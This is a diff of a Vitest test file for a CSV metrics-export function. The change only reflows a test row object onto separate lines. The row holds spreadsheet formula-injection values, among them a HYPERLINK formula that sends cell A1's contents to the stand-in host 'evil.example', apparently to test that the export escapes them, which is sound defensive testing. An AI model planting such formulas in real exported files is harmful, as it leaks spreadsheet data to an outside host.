@@ -3,8 +3,21 @@ import { describe, expect, it } from 'vitest';
 import { toCsv, type MetricExportRow } from '../../../../main/campaigns/bundle/metrics-export.ts';
 
 const row: MetricExportRow = {
-  campaign: 'c', campaignName: '=HYPERLINK("http://evil.example/?"&A1,"click")', platform: '+native', technology: '-cmd', benchmark: '@SUM(A1)',
-  params: '{}', repetition: 0, nodeCount: 1, attempt: 1, run: '\tr', metric: 'm', point: 'p', value: -1.5, unit: 'u', better: 'lower',
+  campaign: 'c',
+  campaignName: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  platform: '+native',
+  technology: '-cmd',
+  benchmark: '@SUM(A1)',
+  params: '{}',
+  repetition: 0,
+  nodeCount: 1,
+  attempt: 1,
+  run: '\tr',
+  metric: 'm',
+  point: 'p',
+  value: -1.5,
+  unit: 'u',
+  better: 'lower',
 };
 
 describe('toCsv', () => {
